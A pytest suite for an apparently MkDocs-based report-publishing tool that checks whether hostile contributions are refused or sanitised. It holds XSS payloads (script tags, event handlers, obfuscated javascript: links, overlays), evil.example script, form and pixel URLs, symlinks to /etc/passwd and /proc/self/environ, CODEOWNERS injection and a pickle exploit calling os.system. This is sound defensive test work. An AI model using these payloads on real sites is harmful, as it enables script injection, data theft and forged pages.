"""The hostile corpus: contributions written by someone who wants script to run, readers
deceived, files of the build machine leaked, or the site broken (issue 11).

Three kinds of case:

- ``REFUSED``: ``baocao check`` refuses the input at ``file:line`` with a code (HTML the
  sanitiser would remove, attribute lists, scripted or foreign links and images, files
  outside the contract's layout, links, devices, oversized and pathological bodies,
  reviewers that would inject CODEOWNERS lines);
- ``SANITISED``: a body converted with the site's own Markdown settings and passed through
  the sanitiser, opened in headless Chromium beside a signature block: no handler from
  content, no ``javascript:``/``data:`` link, no script, nothing over the signature;
- built sites: contributor-controlled names and titles (front matter and ``data/``) and
  tricky-but-accepted bodies, built for real and opened in Chromium (``BUILT``), plus the
  guarantees of the build itself (unknown files never published, no committed cache
  deserialised, the last good site kept whole through failures and SIGKILL) and of the
  outputs that feed other tools.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import markdown
import pytest

from baocao.check import run_check
from baocao.load.frontmatter import MAX_FILE_BYTES
from baocao.problems import Problem, render
from baocao.render.contributor import Converter
from baocao.render.links import Links
from baocao.render.sanitize import clean
from baocao.textfold import slugify
from conftest import mkdocs_build, run_cli

Q = "docs/reports/2025-q3"
CA = f"{Q}/cong-an.md"
KH = f"{Q}/khac.md"
R = f"{Q}/index.md"
ORGS = "data/organisations.yml"
REPORT_PAGE = "reports/2025-q3/index.html"
SECTION_PAGE = "reports/2025-q3/khac/index.html"
FRONT = "---\npart: results\ncategory: cong_an\ncontributor:\nstatus: approved\n---\n\n"  # body on line 8


def body(text: str) -> str:
    return FRONT + text + "\n"


def symlink(target: str) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        path.symlink_to(target)
    return make


def fifo(path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.unlink(missing_ok=True)
    os.mkfifo(path)


def edit(old: str, new: str) -> Callable[[Path], None]:
    def change(path: Path) -> None:
        text = path.read_text(encoding="utf-8")
        assert old in text, old
        path.write_text(text.replace(old, new, 1), encoding="utf-8")
    return change


# name -> ({path: text | bytes | callable(path)}, (path, line, code))
REFUSED: dict[str, tuple[dict, tuple[str, int, str]]] = {}


def refused(name: str, changes: dict, expected: tuple[str, int, str]) -> None:
    assert name not in REFUSED
    REFUSED[name] = (changes, expected)


def html_case(name: str, text: str, line: int = 8) -> None:
    refused(name, {CA: body(text)}, (CA, line, "text-unsafe-html"))


# --- 1. raw HTML and attributes outside the allowlist --------------------------------
html_case("script", "Xin chào <script>window.__pwned=1</script>")
html_case("script-upper", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>")
html_case("img-onerror", '<img src="x.png" onerror="window.__pwned=1">')
html_case("onerror-no-space", '<img src="x.png"onerror="window.__pwned=1">')
html_case("onclick-split-line", 'Đoạn <b\nonclick="window.__pwned=1">đậm</b>', 9)
html_case("onmouseover-slash", '<p/onmouseover="window.__pwned=1">di chuột</p>')
html_case("svg-onload", '<svg onload="window.__pwned=1"></svg>')
html_case("iframe", '<iframe src="https://evil.example"></iframe>')
html_case("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;"></iframe>')
html_case("object", '<object data="x.swf"></object>')
html_case("embed", '<embed src="x.swf">')
html_case("form", '<form action="https://evil.example"><input name="mat_khau"></form>')
html_case("base", '<base href="https://evil.example/">')
html_case("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">')
html_case("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">')
html_case("style-element", "<style>.bc-signature{display:none}</style>")
html_case("style-overlay", '<p style="position:fixed;inset:0;background:#fff;z-index:9999">Báo cáo giả</p>')
html_case("div-overlay", '<div style="position:absolute;top:0;left:0;width:100%;height:100%">giả</div>')
html_case("textarea-unclosed", "Trước\n\n<textarea>\n\nphần còn lại bị nuốt", 10)
html_case("comment-unclosed", "Trước\n\n<!-- phần còn lại bị ẩn", 10)
html_case("math", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>")
html_case("class-bc-signature", '<p class="bc-signature md-header">giả chữ ký</p>')
html_case("id-clobber", '<a id="__md_scope" name="x" href="#">x</a>')
html_case("details-ontoggle", '<details open ontoggle="window.__pwned=1"><summary>x</summary></details>')
html_case("video-poster", '<video poster="javascript:alert(1)"></video>')
html_case("a-href-javascript", '<a href="javascript:window.__pwned=1">bấm</a>')
html_case("a-href-entity", '<a href="&#106;avascript&#58;window.__pwned=1">bấm</a>')
html_case("a-href-tab", '<a href="java&#9;script:window.__pwned=1">bấm</a>')
html_case("a-href-vbscript", '<a href="vbscript:msgbox(1)">bấm</a>')
html_case("img-data", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">')
html_case("img-http", '<img src="http://evil.example/pixel.gif">')
html_case("doctype", "<!DOCTYPE html>")
html_case("processing", "<?php echo 1 ?>")
html_case("cdata", "<![CDATA[<script>x</script>]]>")

# --- 2. attribute lists ({...} after a block or an inline element) ---------------------
html_case("attr-list-onclick", 'Đoạn văn\n{: onclick="window.__pwned=1" }', 9)
html_case("attr-list-style", 'Đoạn văn\n{: style="position:fixed;inset:0" }', 9)
html_case("attr-list-class", "![ảnh](anh.png){: .bc-signature #y}")
html_case("attr-list-heading-id", "## Tiêu đề {#bc-signature}")
html_case("attr-list-inline", "*nghiêng*{: onmouseover=\"window.__pwned=1\"}")

# --- 3. links and images in Markdown ----------------------------------------------------
html_case("md-link-javascript", "[bấm vào đây](javascript:window.__pwned=1)")
html_case("md-link-entity", "[bấm](&#106;avascript:window.__pwned=1)")
html_case("md-link-hex-entity", "[bấm](&#x6A;avascript:window.__pwned=1)")
html_case("md-link-data", "[tải](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)")
html_case("md-link-file", "[xem](file:///etc/passwd)")
html_case("md-ref-javascript", "[bấm][x]\n\n[x]: javascript:window.__pwned=1", 10)
html_case("md-autolink-javascript", "<javascript:window.__pwned=1>")
html_case("md-image-data", "![a](data:image/png;base64,iVBORw0KGgo=)")
html_case("md-image-http", "![a](https://evil.example/track.gif)")
html_case("md-image-root", "![a](/etc/passwd)")

# --- 4. only known page kinds under docs/ ----------------------------------------------
for name, path in {"docs-md": "docs/gioi-thieu.md", "docs-html": "docs/trang.html", "docs-js": "docs/x.js",
                   "docs-index": "docs/index.md", "report-subfolder": f"{Q}/phu/luc.md",
                   "report-html": f"{Q}/bang.html", "reports-md": "docs/reports/ghi-chu.md",
                   "docs-dotfile": "docs/.htaccess", "report-svg": f"{Q}/logo.svg"}.items():
    refused(f"layout-{name}", {path: "<script>window.__pwned=1</script>\n"}, (path, 1, "file-unexpected"))
# data/ keeps the data files and their schemas only (a .gitattributes would apply filters
# and encodings when Git writes the files).
for name, path in {"data-gitattributes": "data/.gitattributes", "data-extra-yml": "data/them.yml",
                   "data-schemas-js": "data/schemas/x.js"}.items():
    refused(f"layout-{name}", {path: "* filter=lfs\n"}, (path, 1, "file-unexpected"))

# --- 5. links, devices and FIFOs, size ----------------------------------------------------
refused("symlink-environ", {f"{Q}/bien.md": symlink("/proc/self/environ")}, (f"{Q}/bien.md", 1, "file-symlink"))
refused("symlink-passwd-data", {"data/committee.yml": symlink("/etc/passwd")}, ("data/committee.yml", 1, "file-symlink"))
refused("symlink-dev-zero", {f"{Q}/zero.md": symlink("/dev/zero")}, (f"{Q}/zero.md", 1, "file-symlink"))
refused("symlink-folder", {"docs/reports/2025-q4": symlink("/etc")}, ("docs/reports/2025-q4", 1, "file-symlink"))
refused("symlink-relative", {f"{Q}/chep.md": symlink("../../../mkdocs.yml")}, (f"{Q}/chep.md", 1, "file-symlink"))
refused("symlink-index", {R: symlink("cong-an.md")}, (R, 1, "file-symlink"))
refused("fifo-docs", {f"{Q}/ong.md": fifo}, (f"{Q}/ong.md", 1, "file-special"))
refused("fifo-data", {"data/ong.yml": fifo}, ("data/ong.yml", 1, "file-special"))
refused("too-big", {CA: body("Chữ. " * (MAX_FILE_BYTES // 5))}, (CA, 1, "file-too-big"))

# --- 6. bounded work: bodies Markdown would take minutes (or its stack) to convert --------
refused("brackets-100k", {CA: body("[" * 100_000)}, (CA, 8, "text-too-complex"))
refused("brackets-many-blocks", {CA: body("\n\n".join(["[" * 1000] * 100))}, (CA, 8, "text-too-complex"))
refused("lt-a-30k", {CA: body("<a " * 30_000)}, (CA, 8, "text-too-complex"))
refused("link-openers", {CA: body("[a](" * 30_000)}, (CA, 8, "text-too-complex"))
refused("ampersands", {CA: body("&" * 100_000)}, (CA, 8, "text-too-complex"))
refused("paragraphs-100k", {CA: body("x\n\n" * 100_000)}, (CA, 7, "text-too-complex"))
refused("emphasis-runs", {CA: body("*a _" * 60_000)}, (CA, 8, "text-too-complex"))
refused("list-dashes", {CA: body("- " * 600 + "x")}, (CA, 8, "text-too-deep"))
refused("list-indent", {CA: body("".join("  " * i + "- x\n" for i in range(300)))}, (CA, 8 + 32, "text-too-deep"))
refused("quote-deep", {CA: body(">" * 10_000 + " x")}, (CA, 8, "text-too-deep"))

# --- 7. outputs that feed other tools -----------------------------------------------------
refused("reviewer-newline", {ORGS: edit("    category: cong_an\n",
                                        "    category: cong_an\n    reviewers: [\"@a\\n* @attacker\"]\n")},
        (ORGS, 11, "pattern"))
refused("reviewer-two-handles", {ORGS: edit("    category: cong_an\n",
                                            "    category: cong_an\n    reviewers: [\"@a @attacker\"]\n")},
        (ORGS, 11, "pattern"))
refused("reviewer-path", {ORGS: edit("    category: cong_an\n",
                                     "    category: cong_an\n    reviewers: [\"/docs/ @attacker\"]\n")},
        (ORGS, 11, "pattern"))


def apply(root: Path, changes: dict) -> None:
    for rel, change in changes.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if callable(change):
            change(path)
        elif isinstance(change, bytes):
            path.write_bytes(change)
        else:
            path.write_text(change, encoding="utf-8")



@pytest.mark.parametrize("name", sorted(REFUSED))
def test_refused(name, pristine, tmp_path):
    changes, (path, line, code) = REFUSED[name]
    root = tmp_path / "repo"
    shutil.copytree(pristine, root, symlinks=True)
    apply(root, changes)
    if any(callable(change) and change.__name__ != "change" for change in changes.values()):
        # links and FIFOs in a subprocess with a timeout: one read by mistake must fail, not hang
        result = run_cli(root, "check", "--format", "json", "--no-cache")
        assert result.returncode == 1, result.stdout[-3000:] + result.stderr[-3000:]
        assert "Traceback" not in result.stderr
        problems = [Problem(**p) for p in json.loads(result.stdout)["problems"]]
    else:
        checked = run_check(root, use_cache=False)
        assert not checked.ok
        problems = checked.problems
    hits = [p for p in problems if p.path == path and p.code == code]
    assert hits, "\n".join(p.text() for p in problems)
    assert hits[0].line == line, hits[0].text()


# --- sanitiser in a real browser -------------------------------------------------------------

# Bodies the sanitiser must make harmless on its own (the check refuses most of them too:
# this is the second wall). Each tries to set window.__pwned, leave a handler, a script, a
# scripted link, or cover the signature.
SANITISED = {
    "script": "<script>window.__pwned=1</script>",
    "img-onerror": '<img src="x" onerror="window.__pwned=1">',
    "onerror-no-space": '<img src="x"onerror="window.__pwned=1">',
    "split-attribute": '<img src="x"\nonerror="window.__pwned=1">',
    "svg-onload": '<svg onload="window.__pwned=1"><script>window.__pwned=2</script></svg>',
    "svg-animate": '<svg><a><animate attributeName="href" values="javascript:window.__pwned=1"/>'
                   "<text y=20>x</text></a></svg>",
    "math-href": '<math href="javascript:window.__pwned=1"><mi>x</mi></math>',
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "object": '<object data="data:text/html,<script>parent.__pwned=1</script>"></object>',
    "a-javascript": '<a href="javascript:window.__pwned=1">x</a>',
    "a-entity": '<a href="&#106;avascript&#58;window.__pwned=1">x</a>',
    "a-tab": '<a href="java&#9;script:window.__pwned=1">x</a>',
    "a-leading-space": '<a href=" javascript:window.__pwned=1">x</a>',
    "a-data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "md-javascript": "[x](javascript:window.__pwned=1)",
    "md-entity": "[x](&#106;avascript:window.__pwned=1)",
    "md-ref": "[x][r]\n\n[r]: javascript:window.__pwned=1",
    "md-image-data": "![x](data:image/svg+xml,<svg onload=window.__pwned=1>)",
    "attr-list-onclick": 'Đoạn\n{: onclick="window.__pwned=1" style="position:fixed;inset:0" }',
    "attr-list-image": '![x](x.png){: onerror="window.__pwned=1" .bc-signature}',
    "style-fixed": '<div style="position:fixed;inset:0;background:red;z-index:99999">giả</div>',
    "style-element": "<style>.bc-signature{visibility:hidden}</style>",
    "textarea": "<textarea>",
    "comment": "<!--",
    "noscript-trick": '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>"></noscript>',
    "form-button": '<form><button formaction="javascript:window.__pwned=1">x</button></form>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">',
    "base": '<base href="javascript:/">[x](y)',
    "template": "<template><script>window.__pwned=1</script></template>",
    "table-style": "<table><tr><td style=\"position:fixed;inset:0\">x</td></tr></table>",
}

# the site's own pipeline for contributor text: converted alone, then cleaned
_CONVERTER = Converter(Links(True), {"reports/2025-q3/index.md", "reports/2025-q3/x.md"})
# and the sanitiser alone, after a Markdown that has attribute lists on (what the MkDocs
# configuration allows elsewhere): the second wall must hold even then
_MD = markdown.Markdown(extensions=["attr_list", "tables", "toc"],
                        extension_configs={"tables": {"use_align_attribute": True},
                                           "toc": {"slugify": slugify}})

CHECK_JS = """() => {
  const content = document.querySelector('#content');
  const bad = [];
  for (const el of content.querySelectorAll('*')) {
    for (const a of el.attributes) {
      if (a.name.startsWith('on')) bad.push('handler ' + a.name);
      if (a.name === 'style') bad.push('style');
      const v = (a.value || '').replace(/[\\s\\x00-\\x1f]/g, '').toLowerCase();
      if (['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster'].includes(a.name)
          && /^(javascript|data|vbscript):/.test(v)) bad.push('url ' + a.value);
    }
    const tag = el.tagName.toLowerCase();
    if (['script', 'iframe', 'object', 'embed', 'form', 'base', 'meta', 'style', 'svg', 'math',
         'textarea', 'link', 'template'].includes(tag)) bad.push('element ' + tag);
    const pos = getComputedStyle(el).position;
    if (pos === 'fixed' || pos === 'absolute' || pos === 'sticky') bad.push('positioned ' + tag);
  }
  const sig = document.querySelector('.bc-signature');
  sig.scrollIntoView();
  const box = sig.getBoundingClientRect();
  const top = document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2);
  if (!top || !sig.contains(top)) bad.push('signature covered');
  if (getComputedStyle(sig).visibility !== 'visible' || box.height === 0) bad.push('signature hidden');
  if (window.__pwned !== undefined) bad.push('script ran');
  return bad;
}"""


@pytest.fixture(scope="module")
def page(browser):
    context = browser.new_context(java_script_enabled=True)
    page = context.new_page()
    page.route("**/*", lambda route: route.abort())  # nothing leaves the page
    yield page
    context.close()


def test_corpus_is_large_enough():
    assert len(REFUSED) + len(SANITISED) + len(BUILT) >= 60


@pytest.mark.browser
@pytest.mark.parametrize("pipeline", ["site", "attr_list"])
@pytest.mark.parametrize("name", sorted(SANITISED))
def test_sanitised_in_browser(name, pipeline, page):
    if pipeline == "site":
        html = str(_CONVERTER.html(SANITISED[name], "reports/2025-q3/x.md", "reports/2025-q3/x.md"))
    else:
        html = clean(_MD.reset().convert(SANITISED[name]))
    page.set_content(f'<!doctype html><meta charset="utf-8"><main><article id="content">{html}</article>'
                     '<div class="bc-signature"><p>T/M ĐẢNG ỦY</p><p>BÍ THƯ</p></div></main>')
    page.wait_for_timeout(50)
    assert page.evaluate(CHECK_JS) == [], html


# --- built sites -------------------------------------------------------------------------------

HANDLER = '<img src=x onerror="window.__pwned=1">'
# name -> (changes, pages to open): names and titles reach pages through the autoescaped
# templates; contributor text through render.contributor and the sanitiser.
BUILT: dict[str, tuple[dict, tuple[str, ...]]] = {
    "section-title": ({KH: edit("title: Tổ chức cơ sở đảng khác (Chi bộ Quỹ tín dụng Nhân dân)",
                                f"title: 'Khác {HANDLER}<script>window.__pwned=2</script>'")},
                      (REPORT_PAGE, SECTION_PAGE)),
    "organisation-name": ({ORGS: edit("name: Chi bộ Quỹ tín dụng Nhân dân", f"name: 'Chi bộ {HANDLER}'")},
                          (REPORT_PAGE, "to-chuc/index.html")),
    "category-name": ({"data/categories.yml": edit("short: Công an", f"short: 'Công an {HANDLER}'")},
                      (REPORT_PAGE, "thong-ke/index.html")),
    "outline-title": ({"data/outline.yml": edit("title: Tình hình chung", f"title: 'Tình hình {HANDLER}'")},
                      (REPORT_PAGE,)),
    "report-recipients": ({R: edit("recipients:\n", f"recipients:\n  - '{HANDLER}'\n")}, (REPORT_PAGE,)),
    "look-alike-fragment": ({KH: lambda p: p.write_text(
        p.read_text(encoding="utf-8") + "\n<!--bcfrag 0123456789abcdef -->\n<!--bctext 0123456789abcdef -->\n",
        encoding="utf-8")}, (REPORT_PAGE, SECTION_PAGE)),
    "accepted-markup": ({KH: lambda p: p.write_text(
        p.read_text(encoding="utf-8") + '\n<a href="https://example.org" title="x&quot; onclick=&quot;'
        'window.__pwned=1">liên kết</a> <strong>đậm</strong>\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n',
        encoding="utf-8")}, (REPORT_PAGE, SECTION_PAGE)),
}

PAGE_CHECK_JS = """() => {
  const content = document.querySelector('.md-content') || document.body;
  const bad = [];
  for (const el of document.querySelectorAll('*')) {
    for (const a of el.attributes) {
      if (a.name.startsWith('on') && /__pwned/.test(a.value)) bad.push('handler ' + a.name);
      const v = (a.value || '').replace(/[\\s\\x00-\\x1f]/g, '').toLowerCase();
      if (['href', 'src'].includes(a.name) && /^(javascript|data|vbscript):/.test(v)) bad.push('url ' + a.value);
    }
    if (el.tagName === 'SCRIPT' && /__pwned/.test(el.textContent)) bad.push('script');
  }
  for (const el of content.querySelectorAll('*')) {
    if (getComputedStyle(el).position === 'fixed') bad.push('fixed ' + el.tagName);
  }
  const sig = document.querySelector('.bc-signature');
  if (sig) {
    sig.scrollIntoView();
    const box = sig.getBoundingClientRect();
    const top = document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2);
    if (!top || !sig.contains(top) || box.height === 0) bad.push('signature covered or hidden');
  }
  if (window.__pwned !== undefined) bad.push('script ran');
  return bad;
}"""


@pytest.mark.browser
@pytest.mark.parametrize("name", sorted(BUILT))
def test_built_page_in_browser(name, repo, tmp_path, browser, serve):
    changes, pages = BUILT[name]
    apply(repo, changes)
    site = tmp_path / "site"
    result = mkdocs_build(repo, site)
    assert result.returncode == 0, result.stderr[-3000:]
    base = serve(site)
    context = browser.new_context()
    try:
        page = context.new_page()
        for path in pages:
            page.goto(f"{base}/{path}")
            page.wait_for_timeout(100)
            assert page.evaluate(PAGE_CHECK_JS) == [], path
            if path == REPORT_PAGE:
                assert page.locator(".bc-signature").is_visible()
    finally:
        context.close()


# --- the build's own guarantees ---------------------------------------------------------------


def tree_digest(folder: Path) -> str:
    digest = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        digest.update(path.relative_to(folder).as_posix().encode())
        if path.is_file():
            digest.update(path.read_bytes())
    return digest.hexdigest()


def test_unknown_files_are_never_published(repo, tmp_path):
    site = tmp_path / "site"
    assert mkdocs_build(repo, site).returncode == 0
    good = tree_digest(site)
    (repo / "docs/gioi-thieu.md").write_text("# Giới thiệu\n", encoding="utf-8")
    (repo / f"{Q}/x.js").write_text("window.__pwned=1\n", encoding="utf-8")
    result = mkdocs_build(repo, site)
    assert result.returncode != 0
    assert "docs/gioi-thieu.md:1:" in result.stderr and f"{Q}/x.js:1:" in result.stderr
    assert tree_digest(site) == good


def test_maintainer_allowlist_publishes_listed_files(repo, tmp_path):
    (repo / f"{Q}/anh").mkdir()
    (repo / f"{Q}/anh/so-do.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    (repo / f"{Q}/ghi-chu.txt").write_text("x", encoding="utf-8")
    config = repo / "mkdocs.yml"
    assert "file-unexpected" in run_cli(repo, "check").stdout
    config.write_text(config.read_text(encoding="utf-8") + "\nextra:\n  baocao_allowed:\n    - reports/*/anh/*.png\n",
                      encoding="utf-8")
    result = run_cli(repo, "check")
    assert f"{Q}/anh/so-do.png" not in result.stdout and f"{Q}/ghi-chu.txt:1:" in result.stdout
    (repo / f"{Q}/ghi-chu.txt").unlink()
    site = tmp_path / "site"
    assert mkdocs_build(repo, site).returncode == 0
    assert (site / "reports/2025-q3/anh/so-do.png").is_file()


def test_symlink_is_refused_before_reading_and_not_published(repo, tmp_path):
    (repo / f"{Q}/bien.md").symlink_to("/proc/self/environ")
    (repo / "docs/lo").symlink_to("/etc", target_is_directory=True)
    site = tmp_path / "site"
    result = mkdocs_build(repo, site, env={"BAOCAO_SECRET_TOKEN": "s3cr3t-token"})
    assert result.returncode != 0
    assert f"{Q}/bien.md:1:" in result.stderr and "[file-symlink]" in result.stderr
    assert "s3cr3t-token" not in result.stderr + result.stdout
    assert not site.exists()


def test_committed_cache_is_never_executed(repo, tmp_path):
    # A clean clone whose history carries a malicious cache file at the old place (and at
    # the new one's name): neither `baocao check` nor `mkdocs build` may run it.
    import pickle

    marker = tmp_path / "pwned"

    class Exploit:
        def __reduce__(self):
            return (os.system, (f"touch {marker}",))

    payload = pickle.dumps(Exploit())
    for rel in (".cache/baocao/content.pickle", ".cache/baocao/content.json"):
        (repo / rel).parent.mkdir(parents=True, exist_ok=True)
        (repo / rel).write_bytes(payload)
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    subprocess.run(["git", "-C", str(repo), "add", "-A", "-f"], check=True)
    subprocess.run(["git", "-C", str(repo), "-c", "user.name=x", "-c", "user.email=x@x", "commit", "-qm", "x"],
                   check=True)
    clone = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", str(repo), str(clone)], check=True)
    assert (clone / ".cache/baocao/content.pickle").is_file()
    assert run_cli(clone, "check").returncode == 0
    assert run_cli(clone, "check").returncode == 0  # a second, warm run
    assert mkdocs_build(clone, tmp_path / "site").returncode == 0
    assert not marker.exists()


def test_cache_is_kept_outside_the_repository(repo):
    from baocao.load.cache import CACHE_NAME, cache_dir

    assert run_cli(repo, "check").returncode == 0
    where = cache_dir(repo) / CACHE_NAME
    assert where.is_file() and not where.is_relative_to(repo)
    assert not (repo / ".cache").exists()
    where.write_text('{"version": "x", "root": "/elsewhere", "entries": {}}', encoding="utf-8")
    assert run_cli(repo, "check").returncode == 0  # foreign: counts as empty


def test_failed_build_keeps_the_last_site_byte_identical(repo, tmp_path):
    site = tmp_path / "site"
    assert mkdocs_build(repo, site, "--strict").returncode == 0
    good = tree_digest(site)
    # a strict warning found after the check passed (a nav entry to a missing page)
    config = repo / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8").replace(
        "  - Tiến độ: tien-do/index.md\n", "  - Tiến độ: tien-do/index.md\n  - Thiếu: khong-co.md\n", 1),
        encoding="utf-8")
    result = mkdocs_build(repo, site, "--strict")
    assert result.returncode != 0 and "khong-co.md" in result.stderr
    assert tree_digest(site) == good
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".site.")] == []
    # an exception in a later hook: BAOCAO_PDF with no usable Chromium fails in on_post_build
    result = mkdocs_build(repo, site, env={"BAOCAO_PDF": "1", "BAOCAO_CHROMIUM": "/nonexistent/chromium"})
    assert result.returncode != 0
    assert tree_digest(site) == good


def test_sigkill_during_build_leaves_the_site_whole(repo, tmp_path):
    site = tmp_path / "site"
    assert mkdocs_build(repo, site).returncode == 0
    good = tree_digest(site)
    path = repo / KH
    path.write_text(path.read_text(encoding="utf-8") + "\nThêm một câu.\n", encoding="utf-8")
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1"}
    # kill at several moments: while checking, while writing pages, near the end
    for delay in (0.3, 1.0, 1.8, 2.5):
        proc = subprocess.Popen([sys.executable, "-m", "mkdocs", "build", "-d", str(site)], cwd=repo, env=env,
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(delay)
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        assert tree_digest(site) in (good, tree_digest(site)) and (site / "index.html").is_file()
        now = tree_digest(site)
        if now != good:  # the build finished before the kill: the new site, whole
            assert "Thêm một câu." in (site / SECTION_PAGE).read_text(encoding="utf-8")
            good = now
    # the next build cleans what the killed ones left beside site/
    assert mkdocs_build(repo, site).returncode == 0
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".site.")] == []


def test_swap_is_atomic_when_the_process_is_killed_between_steps(tmp_path):
    from baocao.build import staging

    site = tmp_path / "site"
    site.mkdir()
    (site / "index.html").write_text("cũ", encoding="utf-8")
    new = staging.staging_dir(site)
    new.mkdir()
    (new / "index.html").write_text("mới", encoding="utf-8")
    staging.swap_in(new, site)
    assert (site / "index.html").read_text(encoding="utf-8") == "mới"
    assert not new.exists()
    # a staging folder of a process that is gone is removed; one of a live process is kept
    dead = site.parent / ".site.staging-999999999-abcd"
    dead.mkdir()
    live = staging.staging_dir(site)
    live.mkdir()
    assert staging.clean_stale(site) == [dead]
    assert live.exists()


def test_serve_still_builds(repo):
    # `mkdocs serve` builds into its own temporary folder: no staging, the site is served.
    import socket
    import urllib.request

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    proc = subprocess.Popen([sys.executable, "-m", "mkdocs", "serve", "--no-livereload", "-a", f"127.0.0.1:{port}"],
                            cwd=repo, env={**os.environ, "NO_MKDOCS_2_WARNING": "1"},
                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    try:
        for _ in range(600):
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/reports/2025-q3/", timeout=2) as response:
                    assert "bc-signature" in response.read().decode("utf-8")
                    break
            except OSError:
                time.sleep(0.1)
        else:
            pytest.fail("mkdocs serve did not answer")
        assert not [p for p in repo.parent.iterdir() if ".staging-" in p.name]
    finally:
        proc.terminate()
        proc.wait(timeout=30)


# --- outputs that feed other tools ------------------------------------------------------------


def test_github_format_escapes_file_names_and_messages():
    problem = Problem("docs/reports/2025-q3/a,line=1::x%0A::error file=y.md", 3, "f",
                      "dòng một\r\ndòng hai 100%", "code")
    line = render([problem], "github").splitlines()[0]
    assert line.startswith("::error file=docs/reports/2025-q3/a%2Cline=1%3A%3Ax%250A%3A%3Aerror file=y.md,line=3::")
    assert "\n" not in line and "\r" not in line
    assert line.endswith("f: dòng một%0D%0Adòng hai 100%25 [code]")


def test_github_format_of_a_hostile_file_name(repo):
    name = f"{Q}/x,line=9::warning file=evil.md.md"
    (repo / name).write_text("x", encoding="utf-8")
    result = run_cli(repo, "check", "--format", "github")
    lines = [line for line in result.stdout.splitlines() if "evil" in line]
    assert lines
    for line in lines:
        # the runner reads properties up to the first "::" after the command: only ours
        properties = line[len("::error "):line.index("::", 2)]
        assert [p.split("=", 1)[0] for p in properties.split(",")] == ["file", "line"], line


def test_codeowners_cannot_be_injected(repo):
    path = repo / ORGS
    path.write_text(path.read_text(encoding="utf-8").replace(
        "    category: cong_an\n", '    category: cong_an\n    reviewers: ["@a\\n* @attacker"]\n', 1), encoding="utf-8")
    result = run_cli(repo, "codeowners")
    assert "@attacker" not in result.stdout


def test_fix_never_writes_through_a_symlink(repo, tmp_path):
    outside = tmp_path / "outside.md"
    text = "---\npart: results\ncategory: khac\ncontributor:\nstatus: draft\n---\n\nTe\u0302n\n"
    outside.write_text(text, encoding="utf-8")
    (repo / f"{Q}/ngoai.md").symlink_to(outside)
    (repo / "docs/reports/2025-q4").symlink_to(tmp_path, target_is_directory=True)
    result = run_cli(repo, "check", "--fix")
    assert result.returncode == 1 and "[file-symlink]" in result.stdout
    assert outside.read_text(encoding="utf-8") == text
    assert (repo / f"{Q}/ngoai.md").is_symlink()


def test_fix_still_fixes_plain_files(repo):
    path = repo / KH
    path.write_text(path.read_text(encoding="utf-8") + "\nTe\u0302n\n", encoding="utf-8")
    result = run_cli(repo, "check", "--fix")
    assert result.returncode == 0, result.stdout
    assert "Tên" in path.read_text(encoding="utf-8")


def test_adapter_never_publishes_unknown_or_linked_files(repo, monkeypatch):
    # What MkDocs would copy from docs/, filtered by the adapter (also under `mkdocs serve`,
    # whose error site keeps the assets).

    from mkdocs.config import load_config
    from mkdocs.structure.files import get_files

    (repo / "docs/x.js").write_text("window.__pwned=1", encoding="utf-8")
    (repo / f"{Q}/anh").mkdir()
    (repo / f"{Q}/anh/ok.png").write_bytes(b"\x89PNG")
    (repo / f"{Q}/anh/leak.png").symlink_to("/etc/hostname")
    config = repo / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8") + "\nextra:\n  baocao_allowed:\n    - reports/*/anh/*.png\n",
                      encoding="utf-8")
    monkeypatch.chdir(repo)
    cfg = load_config(str(config))
    files = get_files(cfg)
    _drop_unpublished(files, cfg)
    uris = {f.src_uri for f in files}
    assert {"reports/2025-q3/index.md", "reports/2025-q3/khac.md", "reports/2025-q3/anh/ok.png"} <= uris
    assert not {"x.js", "reports/2025-q3/anh/leak.png"} & uris


def _drop_unpublished(files, cfg) -> None:
    """What the adapter does in on_files: each file judged by the build session's rule."""
    from baocao.build.published import PublishedFiles
    from baocao.load import siteconfig

    judge = PublishedFiles(cfg.docs_dir, siteconfig.read(cfg.extra).allowed)
    for file in list(files):
        if judge.refused(file.src_dir, file.src_uri):
            files.remove(file)


def _published(repo: Path) -> set[str]:
    from mkdocs.config import load_config
    from mkdocs.structure.files import get_files

    cfg = load_config(str(repo / "mkdocs.yml"))
    files = get_files(cfg)
    _drop_unpublished(files, cfg)
    before = {f.src_uri for f in get_files(cfg) if f.src_dir == cfg.docs_dir}
    assert before, "docs/ has files before the filter"
    return {f.src_uri for f in files if f.src_dir == cfg.docs_dir}


